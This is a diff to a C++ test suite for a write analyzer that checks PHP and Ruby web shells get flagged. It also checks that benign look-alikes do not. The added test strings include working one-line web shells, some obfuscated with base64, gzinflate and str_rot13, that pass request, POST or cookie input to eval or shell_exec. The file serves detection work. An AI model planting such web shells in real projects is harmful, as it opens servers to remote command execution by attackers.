@@ -906,12 +906,21 @@ TEST_CASE("Ruby, PHP and Perl files are read as their interpreter would run them
   CHECK(has_marker(shipped_analyzer()->analyze_write(
                        "public/health.php", "<?php\nif (isset($_REQUEST['c'])) { echo shell_exec($_REQUEST['c']); }\n"),
                    "web_shell", "php runs web request input as a command"));
+  // The request's input decoded first is still the whole code (a health endpoint hiding a web shell).
+  CHECK(has_marker(shipped_analyzer()->analyze_write(
+                       "public/health.php", "<?php\nif (isset($_POST['p'])) {\n    @eval(base64_decode($_POST['p']));\n}\n"),
+                   "web_shell", "php runs web request input as a command"));
+  CHECK(has_marker(shipped_analyzer()->analyze_write("public/x.php", "<?php eval(gzinflate(str_rot13(base64_decode($_COOKIE['k']))));\n"),
+                   "web_shell", "php runs web request input as a command"));
+  CHECK(has_marker(shipped_analyzer()->analyze_write("app/controllers/d.rb", "eval(Base64.decode64(params[:x]))\n"),
+                   "web_shell", "ruby runs web request input as a command"));
   // Ordinary programs: a service key to its API, curl_exec, a fixed command, params in a query.
   for (auto [path, content] : std::vector<std::pair<const char*, const char*>>{
            {"app/services/payments.rb",
             "req.basic_auth(ENV['STRIPE_SECRET_KEY'], '')\nNet::HTTP.start('api.stripe.com', 443) { |h| h.request(req) }\n"},
            {"src/Client.php", "<?php\n$ch = curl_init($url);\n$out = curl_exec($ch);\n"},
            {"public/index.php", "<?php\n$page = $_GET['page'];\n$rev = shell_exec('git rev-parse HEAD');\n"},
+           {"public/view.php", "<?php\n$name = htmlspecialchars(base64_decode($_GET['n']));\necho system('date') . $name;\n"},
            {"app/controllers/s.rb", "Item.where('name LIKE ?', \"%#{params[:q]}%\")\n"}}) {
     INFO(path);
     auto facts = shipped_analyzer()->analyze_write(path, content);
